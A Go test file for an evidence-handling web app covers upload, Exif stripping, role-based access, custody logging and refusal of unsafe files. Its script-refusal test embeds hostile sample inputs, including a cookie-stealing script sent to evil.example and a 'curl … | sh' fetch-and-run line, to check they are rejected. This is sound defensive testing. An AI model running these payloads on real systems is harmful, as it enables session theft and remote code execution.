package web

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"image"
	"image/color"
	"image/jpeg"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rasd-project/rasd/internal/model"
	"github.com/rasd-project/rasd/internal/store"
)

// upload posts files as a browser does: csrf first, then the file parts.
func (c *client) upload(path, csrf string, files map[string][]byte) (*http.Response, string) {
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	if csrf != "-" {
		mw.WriteField("csrf", csrf)
	}
	for name, data := range files {
		w, _ := mw.CreateFormFile("file", name)
		w.Write(data)
	}
	mw.Close()
	req, _ := http.NewRequest(http.MethodPost, c.h.ts.URL+path, &b)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	return c.do(req)
}

// gpsJPEG is a JPEG carrying an Exif block with a GPS IFD (the evidence
// package's testdata fixture).
func gpsJPEG(t *testing.T) []byte {
	b, err := os.ReadFile(filepath.Join("..", "evidence", "testdata", "gps.jpg"))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestEvidenceUploadAndDownload(t *testing.T) {
	h := newHarness(t)
	doc := h.user("doc", model.RoleDocumenter)
	other := h.user("doc2", model.RoleDocumenter)
	analyst := h.user("ana", model.RoleAnalyst)
	admin := h.user("adm", model.RoleAdmin)
	inc := &model.Incident{Type: "death_threat", Date: model.Date{Start: "2021-03-04", End: "2021-03-04", Precision: "day"},
		Place: model.Place{Country: "IQ", Admin1: "IQ-BA"}, Verification: "reported", Visibility: model.VisibilityInternal}
	if err := h.st.CreateIncident(context.Background(), doc.Username, inc); err != nil {
		t.Fatal(err)
	}
	c := h.as(doc)
	_, page := c.get("/incidents/" + inc.ID)
	if !strings.Contains(page, `enctype="multipart/form-data"`) || !strings.Contains(page, `name="csrf"`) {
		t.Fatal("the incident page has no upload form")
	}
	jpg := gpsJPEG(t)
	resp, _ := c.upload("/incidents/"+inc.ID+"/evidence", c.csrf(), map[string][]byte{"IMG_Basra_0042.jpg": jpg})
	if resp.StatusCode != http.StatusSeeOther || !strings.Contains(resp.Header.Get("Location"), "notice=evidence") {
		t.Fatalf("upload: %d %s", resp.StatusCode, resp.Header.Get("Location"))
	}
	list, _ := h.st.ListEvidence(context.Background(), store.KindIncident, inc.ID)
	if len(list) != 1 {
		t.Fatalf("%d evidence rows", len(list))
	}
	e := list[0]
	sum := sha256.Sum256(jpg)
	if h.ev.SHA256(&e) != hex.EncodeToString(sum[:]) || e.HashMAC == hex.EncodeToString(sum[:]) || e.CreatedBy != "doc" || e.Type != "image/jpeg" {
		t.Errorf("stored %+v", e)
	}
	_, page = c.get("/incidents/" + inc.ID)
	if !strings.Contains(page, "IMG_Basra_0042.jpg") || !strings.Contains(page, "/evidence/"+e.ID) {
		t.Error("the incident page does not list the upload")
	}
	_, page = c.get("/evidence/" + e.ID)
	for _, want := range []string{hex.EncodeToString(sum[:]), "/evidence/" + e.ID + "/copy", "/evidence/" + e.ID + "/original", "taken in"} {
		if !strings.Contains(page, want) {
			t.Errorf("the evidence page lacks %q", want)
		}
	}
	resp, body := c.get("/evidence/" + e.ID + "/copy")
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "image/jpeg" || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("copy: %d %v", resp.StatusCode, resp.Header)
	}
	if strings.Contains(body, "Exif") || strings.Contains(body, "SecretCam") || len(body) >= len(jpg) {
		t.Error("the working copy kept the Exif block")
	}
	if strings.Contains(resp.Header.Get("Content-Disposition"), "Basra") {
		t.Error("the working copy's file name carries the original name")
	}
	resp, body = c.get("/evidence/" + e.ID + "/original")
	if resp.StatusCode != 200 || body != string(jpg) || !strings.Contains(resp.Header.Get("Content-Disposition"), "IMG_Basra_0042.jpg") {
		t.Fatalf("original: %d, %d bytes", resp.StatusCode, len(body))
	}
	// Others: a documenter who did not take it in gets the copy, not the
	// original; an analyst gets both; the admin neither.
	if resp, _ := h.as(other).get("/evidence/" + e.ID + "/original"); resp.StatusCode != http.StatusForbidden {
		t.Errorf("another documenter got the original: %d", resp.StatusCode)
	}
	if resp, _ := h.as(analyst).get("/evidence/" + e.ID + "/original"); resp.StatusCode != 200 {
		t.Errorf("analyst original: %d", resp.StatusCode)
	}
	if resp, _ := h.as(admin).get("/evidence/" + e.ID + "/copy"); resp.StatusCode != http.StatusForbidden {
		t.Errorf("admin copy: %d", resp.StatusCode)
	}
	cs, _ := h.st.Custody(context.Background(), e.ID)
	var got []string
	for _, c := range cs {
		got = append(got, c.Actor+" "+c.Action)
	}
	want := "doc intake|doc view|doc download-copy|doc download-original|ana download-original"
	if strings.Join(got, "|") != want {
		t.Errorf("custody = %v, want %s", got, want)
	}
	_, page = c.get("/evidence/" + e.ID)
	if !strings.Contains(page, "downloaded the original") {
		t.Error("the custody log is not shown on the evidence page")
	}
	// The original is unchanged by all this.
	if err := h.ev.Check(&e); err != nil {
		t.Error(err)
	}
}

func TestEvidenceUploadRefusals(t *testing.T) {
	h := newHarness(t)
	doc := h.user("doc", model.RoleDocumenter)
	prot := h.user("prot", model.RoleProtection)
	mine := &model.Incident{Type: "death_threat", Date: model.Date{Start: "2021-03-04", End: "2021-03-04", Precision: "day"},
		Place: model.Place{Country: "IQ"}, Verification: "reported", Visibility: model.VisibilityInternal}
	hidden := *mine
	h.st.CreateIncident(context.Background(), doc.Username, mine)
	hidden.Visibility = model.VisibilityRestricted
	h.st.CreateIncident(context.Background(), prot.Username, &hidden)
	c := h.as(doc)
	path := "/incidents/" + mine.ID + "/evidence"
	jpg := gpsJPEG(t)
	cases := []struct {
		name  string
		path  string
		csrf  string
		files map[string][]byte
		want  int
	}{
		{"no token", path, "-", map[string][]byte{"a.jpg": jpg}, http.StatusForbidden},
		{"forged token", path, "forged", map[string][]byte{"a.jpg": jpg}, http.StatusForbidden},
		{"another session's token", path, h.as(prot).csrf(), map[string][]byte{"a.jpg": jpg}, http.StatusForbidden},
		{"executable", path, "", map[string][]byte{"a.jpg": []byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00")}, http.StatusUnsupportedMediaType},
		{"html", path, "", map[string][]byte{"a.pdf": []byte("<html><script>alert(1)</script>")}, http.StatusUnsupportedMediaType},
		{"empty", path, "", map[string][]byte{"a.jpg": nil}, http.StatusBadRequest},
		{"too large", path, "", map[string][]byte{"a.jpg": append(bytes.Clone(jpg), make([]byte, 1<<20)...)}, http.StatusRequestEntityTooLarge},
		{"hidden incident", "/incidents/" + hidden.ID + "/evidence", "", map[string][]byte{"a.jpg": jpg}, http.StatusNotFound},
	}
	h.ev.MaxSize = 512 << 10
	for _, tc := range cases {
		tok := tc.csrf
		if tok == "" {
			tok = c.csrf()
		}
		if resp, _ := c.upload(tc.path, tok, tc.files); resp.StatusCode != tc.want {
			t.Errorf("%s: %d, want %d", tc.name, resp.StatusCode, tc.want)
		}
	}
	// Over the HTTP body limit (evidence limit + 1 MiB): cut off while
	// streaming, not buffered.
	if resp, _ := c.upload(path, c.csrf(), map[string][]byte{"b.jpg": append(bytes.Clone(jpg), make([]byte, 2<<20)...)}); resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("over the body limit: %d", resp.StatusCode)
	}
	if all, _ := h.st.ListEvidence(context.Background(), "", ""); len(all) != 0 {
		t.Errorf("refused uploads were stored: %d", len(all))
	}
	var files int
	filepath.WalkDir(filepath.Join(h.dir, "evidence"), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			files++
		}
		return nil
	})
	if files != 0 {
		t.Errorf("refused uploads left %d files", files)
	}
}

func TestEvidenceDamagedFile(t *testing.T) {
	h := newHarness(t)
	doc := h.user("doc", model.RoleDocumenter)
	inc := &model.Incident{Type: "death_threat", Date: model.Date{Start: "2021-03-04", End: "2021-03-04", Precision: "day"},
		Place: model.Place{Country: "IQ"}, Verification: "reported", Visibility: model.VisibilityInternal}
	h.st.CreateIncident(context.Background(), doc.Username, inc)
	var img bytes.Buffer
	m := image.NewRGBA(image.Rect(0, 0, 64, 64))
	for i := range m.Pix {
		m.Pix[i] = byte(i * 7)
	}
	m.Set(1, 1, color.White)
	jpeg.Encode(&img, m, nil)
	e, err := h.ev.Add(context.Background(), doc.Username, store.KindIncident, inc.ID, "x.jpg", &img)
	if err != nil {
		t.Fatal(err)
	}
	blob := filepath.Join(h.dir, "evidence", e.Blob[:2], e.Blob[2:])
	b, _ := os.ReadFile(blob)
	b[len(b)/2] ^= 0x40
	os.WriteFile(blob, b, 0o600)
	c := h.as(doc)
	for _, p := range []string{"/copy", "/original"} {
		resp, body := c.get("/evidence/" + e.ID + p)
		if resp.StatusCode != http.StatusInternalServerError || !strings.Contains(body, "damaged or was modified") ||
			resp.Header.Get("Content-Disposition") != "" {
			t.Errorf("%s of a damaged file: %d, disposition %q", p, resp.StatusCode, resp.Header.Get("Content-Disposition"))
		}
	}
	cs, _ := h.st.Custody(context.Background(), e.ID)
	if len(cs) != 1 {
		t.Errorf("a failed download was logged as a download: %+v", cs)
	}
}

func TestEvidenceOnPerson(t *testing.T) {
	h := newHarness(t)
	prot := h.user("prot", model.RoleProtection)
	doc := h.user("doc", model.RoleDocumenter)
	p := &model.Person{NameLatin: "Relocated Activist", Visibility: model.VisibilityRestricted}
	if err := h.st.Persons().Create(context.Background(), prot.Username, p); err != nil {
		t.Fatal(err)
	}
	c := h.as(prot)
	resp, _ := c.upload("/persons/"+p.ID+"/evidence", c.csrf(), map[string][]byte{"threat-letter.jpg": append(gpsJPEG(t), make([]byte, 3<<20)...)}) // over the 2 MiB of other forms
	if resp.StatusCode != http.StatusSeeOther || !strings.HasPrefix(resp.Header.Get("Location"), "/persons/"+p.ID) {
		t.Fatalf("upload to a person: %d %s", resp.StatusCode, resp.Header.Get("Location"))
	}
	list, _ := h.st.ListEvidence(context.Background(), store.KindPerson, p.ID)
	if len(list) != 1 {
		t.Fatalf("%d files on the person", len(list))
	}
	if _, page := c.get("/persons/" + p.ID); !strings.Contains(page, "threat-letter.jpg") || !strings.Contains(page, `action="/persons/`+p.ID+`/evidence"`) {
		t.Error("the person page does not list the file or offer the form")
	}
	// The person is restricted: a documenter who did not create it sees
	// neither the person nor the file.
	d := h.as(doc)
	for _, path := range []string{"/evidence/" + list[0].ID, "/evidence/" + list[0].ID + "/copy"} {
		if resp, _ := d.get(path); resp.StatusCode != http.StatusNotFound {
			t.Errorf("%s as a documenter: %d, want 404", path, resp.StatusCode)
		}
	}
	if resp, _ := d.upload("/persons/"+p.ID+"/evidence", d.csrf(), map[string][]byte{"x.jpg": gpsJPEG(t)}); resp.StatusCode != http.StatusNotFound {
		t.Errorf("upload to a hidden person: %d, want 404", resp.StatusCode)
	}
}

// TestEvidenceScriptRefused: a program or script is refused by its
// content under any name and declared type, and the page says why.
func TestEvidenceScriptRefused(t *testing.T) {
	h := newHarness(t)
	doc := h.user("doc", model.RoleDocumenter)
	inc := &model.Incident{Type: "death_threat", Date: model.Date{Start: "2021-03-04", End: "2021-03-04", Precision: "day"},
		Place: model.Place{Country: "IQ"}, Verification: "reported", Visibility: model.VisibilityInternal}
	h.st.CreateIncident(context.Background(), doc.Username, inc)
	c := h.as(doc)
	for name, content := range map[string]string{
		"statement.pdf": "Notes of the meeting.\n<script>location='https://evil.example/'+document.cookie</script>",
		"photo.jpg":     "#!/bin/sh\ncurl -s https://evil.example/x | sh\n",
		"notes.txt":     strings.Repeat("Interview notes. ", 60) + "\nvar sh = new ActiveXObject('WScript.Shell');",
		"scan.png":      "\x7fELF\x02\x01\x01\x00",
	} {
		resp, body := c.upload("/incidents/"+inc.ID+"/evidence", c.csrf(), map[string][]byte{name: []byte(content)})
		if resp.StatusCode != http.StatusUnsupportedMediaType || !strings.Contains(body, "program or script") {
			t.Errorf("%s: %d, want 415 saying it is a program or script", name, resp.StatusCode)
		}
	}
	if all, _ := h.st.ListEvidence(context.Background(), "", ""); len(all) != 0 {
		t.Errorf("%d scripts were taken in", len(all))
	}
}
